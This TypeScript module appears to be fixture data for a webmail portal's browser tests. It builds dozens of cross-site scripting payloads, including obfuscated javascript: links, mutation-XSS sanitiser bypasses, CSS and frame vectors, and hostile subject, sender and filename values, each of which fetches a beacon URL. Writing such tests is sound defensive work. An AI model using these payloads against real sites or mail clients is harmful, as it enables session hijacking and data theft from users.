/**
 * Hostile mail content for the portal's browser tests: HTML bodies and header values that try to run
 * script or reach the network when a recipient reads them. Every payload acts observably if it ever runs:
 * it sets `__pwned` on the top, parent and own window, calls `alert()` and fetches a beacon URL, so a test
 * can watch for dialogs, the marker and beacon requests.
 */

/** One payload: a short name (used in the beacon path and the marker) and its HTML. */
export interface HostilePayload {
  name: string;
  html: string;
}

/**
 * The script a payload runs: no spaces, double quotes or `>`, so it fits an unquoted attribute value, a
 * double-quoted one and a script element alike.
 */
export function act(beacon: string, name: string): string {
  return `top.__pwned=\`${name}\`;parent.__pwned=\`${name}\`;window.__pwned=\`${name}\`;alert(\`${name}\`);fetch(\`${beacon}/xss/${name}\`)`;
}

function base64(text: string): string {
  return Buffer.from(text, 'utf8').toString('base64');
}

/** Script elements, event handlers, SVG and MathML, and the classic sanitiser round-trip (mXSS) payloads. */
export function scriptPayloads(beacon: string): HostilePayload[] {
  const a = (name: string) => act(beacon, name);
  return [
    { name: 'script', html: `<script>${a('script')}</script>` },
    { name: 'script-src', html: `<script src="${beacon}/xss/script-src.js"></script>` },
    { name: 'script-upper', html: `<SCRIPT type="text/javascript">${a('script-upper')}</SCRIPT>` },
    { name: 'img-onerror', html: `<img src=x onerror="${a('img-onerror')}" alt="broken">` },
    { name: 'img-onerror-case', html: `<IMG SRC=x OnErRoR=${a('img-onerror-case')}>` },
    { name: 'img-onload-data', html: `<img src="data:image/gif;base64,R0lGODlhAQABAAAAACw=" onload="${a('img-onload-data')}">` },
    { name: 'svg-onload', html: `<svg onload="${a('svg-onload')}"><circle r="1"></circle></svg>` },
    { name: 'svg-script', html: `<svg><script>${a('svg-script')}</script></svg>` },
    { name: 'svg-animate', html: `<svg><animate onbegin=${a('svg-animate')} attributeName=x dur=1s></animate></svg>` },
    { name: 'details-ontoggle', html: `<details open ontoggle="${a('details-ontoggle')}"><summary>Details</summary></details>` },
    { name: 'body-onload', html: `<body onload="${a('body-onload')}">` },
    { name: 'input-autofocus', html: `<input autofocus onfocus="${a('input-autofocus')}">` },
    { name: 'video-source', html: `<video><source onerror="${a('video-source')}"></video>` },
    { name: 'a-onclick', html: `<p><a href="https://acme.test/ok" onclick="${a('a-onclick')}" onmouseover="${a('a-onmouseover')}">Harmless looking link</a></p>` },
    { name: 'noscript-mxss', html: `<noscript><p title="</noscript><img src=x onerror=${a('noscript-mxss')}>"></noscript>` },
    { name: 'svg-style-mxss', html: `<svg><style><img src=x onerror=${a('svg-style-mxss')}></style></svg>` },
    { name: 'svg-p-style-mxss', html: `<svg></p><style><a id="</style><img src=1 onerror=${a('svg-p-style-mxss')}>">` },
    {
      name: 'math-mglyph-mxss',
      html: `<math><mtext><table><mglyph><style><img src=x onerror=${a('math-mglyph-mxss')}></style></mglyph></table></mtext></math>`,
    },
    { name: 'math-href', html: `<math><mi xlink:href="javascript:${a('math-href')}">math link</mi></math>` },
    { name: 'comment-mxss', html: `<!--<img src="--><img src=x onerror=${a('comment-mxss')}//">` },
    { name: 'cdata-mxss', html: `<svg><![CDATA[><img src=x onerror=${a('cdata-mxss')}>]]></svg>` },
    { name: 'template', html: `<template><img src=x onerror=${a('template')}></template>` },
    { name: 'textarea', html: `<textarea><img src=x onerror=${a('textarea')}></textarea>` },
    { name: 'title', html: `<title><img src=x onerror=${a('title')}></title>` },
    { name: 'xmp', html: `<xmp><img src=x onerror=${a('xmp')}></xmp>` },
    { name: 'select', html: `<select><option><img src=x onerror=${a('select')}></option></select>` },
    { name: 'style-close-mxss', html: `<style></style><img src=x onerror=${a('style-close-mxss')}>` },
    { name: 'style-in-text', html: `<p><style>p{color:red}</style x="</style><img src=x onerror=${a('style-in-text')}>"></p>` },
  ];
}

/**
 * Styles, frames, plugins, `javascript:` and `data:` URLs (also entity-encoded), forms, refresh and base:
 * everything that could run script or load from the network without a script element.
 */
export function navigationPayloads(beacon: string): HostilePayload[] {
  const a = (name: string) => act(beacon, name);
  const encoded = [...'javascript:'].map((c) => `&#${c.charCodeAt(0)};`).join('');
  const hexEncoded = [...'javascript'].map((c) => `&#x${c.charCodeAt(0).toString(16)};`).join('') + '&colon;';
  return [
    { name: 'style-expression', html: `<div style="width:expression(${a('style-expression')})">expression</div>` },
    { name: 'style-url-javascript', html: `<div style='background-image:url("javascript:${a('style-url-javascript')}")'>url javascript</div>` },
    { name: 'style-behavior', html: `<div style="behavior:url(${beacon}/xss/behavior.htc);-moz-binding:url(${beacon}/xss/binding.xml)">behaviour</div>` },
    { name: 'style-escaped-url', html: `<div style="background:u\\72l(${beacon}/xss/escaped.png)">escaped</div>` },
    { name: 'style-entity-url', html: `<div style="background:url(&#104;ttp://${beacon.slice('http://'.length)}/xss/entity.png)">entity</div>` },
    {
      name: 'style-element',
      html:
        `<style>@import url("${beacon}/xss/import.css");@import '${beacon}/xss/import2.css';` +
        `body{background:url("javascript:${a('style-element')}")}p{width:expression(alert(1))}` +
        `.x{background:u\\72l(${beacon}/xss/style-escaped.png)}</style>`,
    },
    { name: 'iframe-srcdoc', html: `<iframe srcdoc="&lt;script&gt;${a('iframe-srcdoc')}&lt;/script&gt;"></iframe>` },
    { name: 'iframe-src', html: `<iframe src="${beacon}/xss/iframe-src"></iframe>` },
    { name: 'iframe-data', html: `<iframe src="data:text/html;base64,${base64(`<script>${a('iframe-data')}</script>`)}"></iframe>` },
    { name: 'object', html: `<object data="${beacon}/xss/object.html"></object><object data="data:text/html,<script>${a('object')}</script>"></object>` },
    { name: 'embed', html: `<embed src="${beacon}/xss/embed.swf"><embed src="data:image/svg+xml;base64,${base64(`<svg xmlns="http://www.w3.org/2000/svg" onload="${a('embed')}"/>`)}">` },
    { name: 'a-javascript', html: `<p><a href="javascript:${a('a-javascript')}">Script link plain</a></p>` },
    { name: 'a-javascript-entities', html: `<p><a href="${encoded}${a('a-javascript-entities')}">Script link entities</a></p>` },
    { name: 'a-javascript-hex', html: `<p><a href="${hexEncoded}${a('a-javascript-hex')}">Script link hex</a></p>` },
    { name: 'a-javascript-tab', html: `<p><a href=" java&#x09;script:${a('a-javascript-tab')}">Script link tab</a></p>` },
    { name: 'a-javascript-case', html: `<p><a href="JaVaScRiPt:${a('a-javascript-case')}">Script link case</a></p>` },
    { name: 'a-vbscript', html: `<p><a href="vbscript:msgbox(1)">Script link vbscript</a></p>` },
    { name: 'a-data-html', html: `<p><a href="data:text/html,<script>${a('a-data-html')}</script>">Data link</a></p>` },
    { name: 'img-data-svg', html: `<img src="data:image/svg+xml;base64,${base64(`<svg xmlns="http://www.w3.org/2000/svg" onload="${a('img-data-svg')}"/>`)}" alt="svg data">` },
    { name: 'img-javascript', html: `<img src="javascript:${a('img-javascript')}" alt="javascript image">` },
    { name: 'form-javascript', html: `<form action="javascript:${a('form-javascript')}"><button>Form button</button></form>` },
    { name: 'form-beacon', html: `<form action="${beacon}/xss/form" method="post"><input name="q" value="secret"><input type="submit" value="Submit form"></form>` },
    { name: 'button-formaction', html: `<button formaction="javascript:${a('button-formaction')}">Form action button</button>` },
    { name: 'meta-refresh', html: `<meta http-equiv="refresh" content="0;url=${beacon}/xss/meta-refresh">` },
    { name: 'meta-refresh-javascript', html: `<meta http-equiv="refresh" content="0;url=javascript:${a('meta-refresh-javascript')}">` },
    { name: 'base-href', html: `<base href="${beacon}/xss/base/"><p><a href="relative-page">Relative link</a></p><img src="relative.png" alt="relative">` },
    { name: 'link-stylesheet', html: `<link rel="stylesheet" href="${beacon}/xss/link.css"><link rel="prefetch" href="${beacon}/xss/prefetch">` },
  ];
}

/** The visible texts of the `javascript:` links in navigationPayloads, to click them. */
export const SCRIPT_LINK_TEXTS = ['Script link plain', 'Script link entities', 'Script link hex', 'Script link tab', 'Script link case', 'Script link vbscript', 'Data link'];

/** Header values shown as text by the portal: each must appear literally. */
export const HOSTILE_SUBJECT_ENCODED = 'Invoice <img src=x onerror=top.__pwned=`subject`;alert(`subject`)> <script>alert(1)</script>';
export const HOSTILE_SUBJECT_RAW = 'Übersicht <svg onload=top.__pwned=`subject-raw`> "quoted" & <b>bold</b>';
export const HOSTILE_FROM_NAME_ENCODED = 'Alice <img src=x onerror=alert(`from`)>';
export const HOSTILE_FROM_NAME_RAW = 'Jörg <svg onload=alert(`from-raw`)>';
export const HOSTILE_FILE_ENCODED = 'Rechnung <img src=x onerror=alert(`file`)>.pdf';
export const HOSTILE_FILE_RFC2231 = 'Angebot <svg onload=alert(`file2231`)>.pdf';
export const HOSTILE_FILE_RAW = 'Bericht Ärger <img src=x onerror=alert(`file-raw`)>.txt';

/** An RFC 2047 encoded word (UTF-8, base64). */
export function encodedWord(text: string): string {
  return `=?UTF-8?B?${base64(text)}?=`;
}

/** Percent-encoding as RFC 2231 wants it for a parameter value. */
export function rfc2231(text: string): string {
  return [...Buffer.from(text, 'utf8')]
    .map((byte) => (/[A-Za-z0-9._-]/.test(String.fromCharCode(byte)) ? String.fromCharCode(byte) : `%${byte.toString(16).toUpperCase().padStart(2, '0')}`))
    .join('');
}
